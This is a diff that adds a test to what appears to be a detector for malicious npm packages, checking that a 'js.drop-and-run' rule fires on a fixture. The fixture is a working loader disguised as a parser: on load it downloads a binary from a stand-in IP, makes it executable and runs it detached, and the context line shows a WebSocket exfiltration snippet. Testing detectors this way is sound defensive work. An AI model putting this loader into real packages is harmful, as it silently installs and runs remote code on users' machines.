@@ -2773,3 +2773,16 @@ ws.on('open', () => ws.send(JSON.stringify({ ua: process.env.npm_config_user_age
     expect(r.evidence.find((f) => f.rule === 'js.exfil-fingerprint')?.install_time).toBe(true);
   });
 });
+
+describe('a file stream the code opened calls back unprompted (round 17)', () => {
+  it('a download piped into a write stream whose finish handler runs the file, on load', () => {
+    const r = load({
+      'index.js': `const https = require('https'), fs = require('fs'), os = require('os'), cp = require('child_process');
+const file = os.tmpdir() + '/yfp-cache.bin';
+https.get({ host: '198.51.100.40', path: '/cdn/core.bin' }, (res) => { const out = fs.createWriteStream(file); res.pipe(out); out.on('finish', () => { fs.chmodSync(file, 0o755); cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); }); });
+exports.parse = (s) => s.split('\\n');`,
+    });
+    const drop = r.evidence.find((f) => f.rule === 'js.drop-and-run');
+    expect(drop?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+});
